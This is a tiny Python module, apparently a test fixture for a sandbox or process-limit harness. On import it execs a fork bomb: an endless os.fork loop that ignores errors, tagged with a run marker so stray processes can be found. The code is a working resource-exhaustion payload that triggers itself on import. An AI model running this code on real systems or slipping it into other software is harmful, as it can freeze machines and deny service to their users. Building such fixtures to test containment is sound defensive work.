"""A fork bomb at import; every bomb process carries the run's marker on its command line."""
import os
import sys

BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
os.execv(sys.executable, [sys.executable, "-c", BOMB, "__MARKER__-bomb"])
